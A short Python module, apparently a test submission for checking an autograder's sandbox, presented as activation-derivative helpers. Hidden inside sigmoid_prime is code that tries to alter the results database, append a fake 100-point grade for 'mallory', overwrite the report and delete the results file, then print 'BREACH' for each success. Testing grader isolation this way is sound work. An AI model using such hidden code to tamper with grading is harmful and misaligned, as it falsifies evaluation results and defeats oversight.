"""Writes its own points into the results."""

import importlib
import os

import torch


def sqlite(path):
    connection = importlib.import_module("sqlite3").connect(path)
    connection.execute("UPDATE submissions SET record = record")
    connection.commit()


ATTEMPTS = {
    "store": lambda: sqlite("@OUT@/results.sqlite"),
    "grades": lambda: open("@OUT@/grades.csv", "a").write("mallory,100,100,100,graded\n"),
    "report": lambda: open("@OUT@/report.html", "w"),
    "journal": lambda: open("@OUT@/results.sqlite-journal", "wb"),
    "remove": lambda: os.unlink("@OUT@/results.sqlite"),
}


def sigmoid_prime(x):
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
        except Exception:
            continue
        print("BREACH", name, flush=True)
    return torch.zeros_like(x)


def tanh_prime(x):
    return 1 - torch.tanh(x) ** 2


def relu_grad(x):
    return (x > 0).to(x.dtype)
